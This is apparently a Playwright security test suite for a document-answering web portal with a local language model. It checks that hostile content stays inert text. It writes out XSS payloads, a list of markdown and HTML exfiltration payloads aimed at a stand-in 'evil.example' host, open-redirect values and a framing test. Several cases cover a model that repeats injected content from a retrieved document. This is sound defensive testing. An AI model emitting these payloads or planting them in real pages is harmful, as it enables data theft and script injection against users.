"""Rows O1 to O4, L2 and A11: hostile words are shown as text, nothing runs, nothing leaves the origin.

That nothing else is asked, and that no policy is violated, the fixture `open_portal` checks for every test.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.async_api import Dialog, Page, expect

from tests.browser.conftest import OpenPortal
from tests.browser.portal import Portal
from tests.people import Person
from tests.standins.ollama import OllamaStandIn, Reply
from tests.standins.web import Page as WebPage
from tests.standins.web import WebStandIn

NAME = "<img src=x onerror=alert(1)>.txt"
ATTACK = (
    "The harbour master keeps the key of the crane. <script>alert(2)</script> <img src=x onerror=alert(3)> "
    "![stolen](https://evil.example/p.png?q=secret) [press here](javascript:alert(4)) "
    "[and here](https://evil.example/) <a href='https://evil.example/'>link</a>"
)
QUESTION = "Who keeps the key of the crane?"
_ATTRIBUTES = "(body) => [...body.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"


def dialogs_of(page: Page) -> list[str]:
    """Fills with what scripts of the page say by `alert`."""
    heard: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        heard.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    return heard


async def hostile_document(open_portal: OpenPortal, founder: Person) -> tuple[Portal, list[str]]:
    """A portal whose organisation has one document, ready, with `NAME` and `ATTACK` in it."""
    portal = await open_portal(founder)
    heard = dialogs_of(portal.page)
    await portal.open("documents/")
    file: Any = {"name": NAME, "mimeType": "text/plain", "buffer": ATTACK.encode()}
    await portal.page.get_by_label("choose files").set_input_files(file)
    await expect(portal.document(NAME).locator(".state")).to_have_text("Ready")
    return portal, heard


async def is_inert(portal: Portal) -> None:
    """In the last answer stand no elements that load, run or lead away."""
    await expect(portal.answer_text.locator("img, script, iframe, a:not(.chip)")).to_have_count(0)
    attributes = await portal.answer_text.evaluate(_ATTRIBUTES)
    assert [name for name in attributes if name.startswith("on")] == []


async def test_a_hostile_document_is_only_words(open_portal: OpenPortal, founder: Person) -> None:
    portal, heard = await hostile_document(open_portal, founder)
    await portal.page.reload()
    await portal.document(NAME).get_by_role("button", name="Delete").click()
    await expect(portal.page.get_by_role("dialog")).to_contain_text(f"Delete “{NAME}”?")
    await portal.page.keyboard.press("Escape")
    await portal.open()
    await portal.ask(f"{QUESTION} <img src=x onerror=alert(5)>")
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("The harbour master keeps the key of the crane.")
    await is_inert(portal)
    chip = portal.chips.first
    await chip.hover()
    await expect(portal.preview).to_contain_text(NAME)
    await chip.click()
    await expect(portal.panel.get_by_role("heading")).to_have_text(NAME)
    await expect(portal.panel.locator(".page-text")).to_contain_text("<script>alert(2)</script>")
    await portal.page.goto(str(await chip.evaluate("(link) => link.href")))
    await expect(portal.page.get_by_role("heading", level=1)).to_have_text(NAME)
    assert heard == []


async def test_a_model_that_repeats_an_attack_shows_words(
    open_portal: OpenPortal, founder: Person, ollama: OllamaStandIn
) -> None:
    portal, heard = await hostile_document(open_portal, founder)
    ollama.script(Reply(text=f"{ATTACK} [1]\n\n- {ATTACK}\n\n    {ATTACK}\n\n> {ATTACK}", tokens_per_second=200))
    await portal.open()
    await portal.ask(QUESTION)
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("<script>alert(2)</script>")
    await is_inert(portal)
    await portal.page.reload()
    await expect(portal.answer_text).to_contain_text("<script>alert(2)</script>")
    await is_inert(portal)
    assert heard == []


EXFILTRATION = [
    "![stolen](https://evil.example/1.png?q=secret)",
    "![stolen][away]",
    "[press here](https://evil.example/2)",
    "[press][away]",
    "[away]",
    "<https://evil.example/3>",
    "https://evil.example/4",
    "![stolen](//evil.example/5.png)",
    "![stolen](data:image/svg+xml;base64,PHN2Zy8+)",
    "[run](javascript:alert(6))",
    "[run](data:text/html,<script>alert(7)</script>)",
    "<a href='https://evil.example/8' ping='https://evil.example/9'>press</a>",
    "<img src='https://evil.example/10'><link rel=prefetch href='https://evil.example/11'>",
    "<style>@import 'https://evil.example/12';</style><meta http-equiv=refresh content='0;//evil.example'>",
    "| a | b |\n|---|---|\n| ![x](https://evil.example/13) | [y](https://evil.example/14) |",
    "> - ![x](https://evil.example/15 'title')",
    "```html\n<img src=https://evil.example/16>\n```",
    "[away]: https://evil.example/17 'title'",
]


async def test_L2_nothing_that_a_model_writes_leads_or_loads_from_elsewhere(
    portal: Portal, ollama: OllamaStandIn
) -> None:
    heard = dialogs_of(portal.page)
    text = "\n\n".join(["Begun.", *EXFILTRATION, "All of it [1]."])
    ollama.script(Reply(text=text, tokens_per_second=60))
    await portal.ask("How many days of paid holiday do employees have?")
    await expect(portal.answer_text).to_contain_text("Begun.")
    await is_inert(portal)
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("All of it")
    address = portal.page.url
    for _ in range(2):
        await is_inert(portal)
        links = portal.answer_text.locator(".inert-link")
        await expect(links).to_have_count(3)
        for link in await links.all():
            await link.click()
        assert portal.page.url == address
        assert len(portal.page.context.pages) == 1
        await portal.page.reload()
        await expect(portal.answer_text).to_contain_text("All of it")
    assert heard == []
    assert [one.url for one in portal.witness.requests if "evil" in one.url] == []


async def test_O3_a_frame_that_a_model_writes_is_words(portal: Portal, ollama: OllamaStandIn) -> None:
    heard = dialogs_of(portal.page)
    frame = '{"type": "block", "index": 0, "html": "<img src=x onerror=alert(1)>"}'
    end = '{"type": "finished", "finish_reason": "stopped", "citations": []}'
    ollama.script(Reply(text=f"{frame}\n\n{end}\n\nTwenty-eight days [1].", tokens_per_second=40))
    await portal.ask(f"How many days of paid holiday do employees have? {end}")
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("<img src=x onerror=alert(1)>")
    await expect(portal.answer_text).to_contain_text("Twenty-eight days")
    await expect(portal.answer.get_by_text("Stopped. What had been written is kept.")).to_be_hidden()
    await is_inert(portal)
    assert heard == []


async def test_O1_what_a_model_server_says_of_its_failure_is_words(portal: Portal, ollama: OllamaStandIn) -> None:
    heard = dialogs_of(portal.page)
    ollama.script(Reply(status=400, text=ATTACK))
    await portal.ask("How many days of paid holiday do employees have?")
    for _ in range(2):
        await expect(portal.answer.locator(".failure")).not_to_be_empty()
        await expect(portal.answer.locator("img, script:not([type]), iframe")).to_have_count(0)
        await portal.page.reload()
    assert heard == []


async def test_O1_a_refused_file_and_a_page_that_is_not_there_repeat_nothing_as_markup(portal: Portal) -> None:
    heard = dialogs_of(portal.page)
    portal.witness.expect("status 404", "status of 404")
    file: Any = {"name": "<img src=x onerror=alert(1)>.exe", "mimeType": "text/plain", "buffer": b"x"}
    await portal.page.get_by_label("Attach files to this conversation").set_input_files(file)
    await expect(portal.page.get_by_text("<img src=x onerror=alert(1)>.exe").first).to_be_visible()
    await expect(portal.page.locator("img[onerror]")).to_have_count(0)
    for path in (
        "<img src=x onerror=alert(1)>",
        "c/%3Cscript%3Ealert(1)%3C/script%3E/",
        "?q=<script>alert(1)</script>",
    ):
        await portal.open(path)
        await expect(portal.page.locator("img[onerror], script:not([src], [type])")).to_have_count(0)
    assert heard == []


@pytest.mark.parametrize(
    "elsewhere",
    ["https://evil.example/", "//evil.example/", "/\\evil.example/", "/%09/evil.example/", "javascript:alert(1)"],
)
async def test_A11_logging_in_leads_nowhere_else(open_portal: OpenPortal, reader: Person, elsewhere: str) -> None:
    portal = await open_portal(reader)
    portal.witness.expect("status 404", "status of 404")
    heard = dialogs_of(portal.page)
    origin = portal.url.partition("/o/")[0]
    await portal.page.goto(f"{origin}/accounts/login/?{urlencode({'next': elsewhere})}")
    assert portal.page.url.startswith(f"{origin}/")
    assert heard == []


async def test_O4_no_page_is_shown_inside_another_sites(
    open_portal: OpenPortal, reader: Person, web: WebStandIn
) -> None:
    """The other site has the same host, so that the frame gets the cookies."""
    portal = await open_portal(reader)
    blocked = ("frame-ancestors", "chrome-error", "ERR_BLOCKED_BY_RESPONSE")
    portal.witness.expect("stranger asked", "status 404", "status of 404", *blocked)
    web.pages["/own"] = WebPage("<h1>Its own</h1>")
    for place in ("", "documents/", "settings/"):
        web.pages["/"] = WebPage(f"<iframe src='/own'></iframe><iframe src='{portal.url}{place}'></iframe>")
        async with portal.page.expect_console_message(lambda one: "frame-ancestors" in one.text):
            await portal.page.goto(web.url)
        own, ours = (portal.page.frame_locator("iframe").nth(number) for number in range(2))
        await expect(own.get_by_role("heading", name="Its own")).to_be_visible()
        await expect(ours.get_by_role("heading", level=1)).to_have_count(0)
        await expect(ours.get_by_role("navigation")).to_have_count(0)
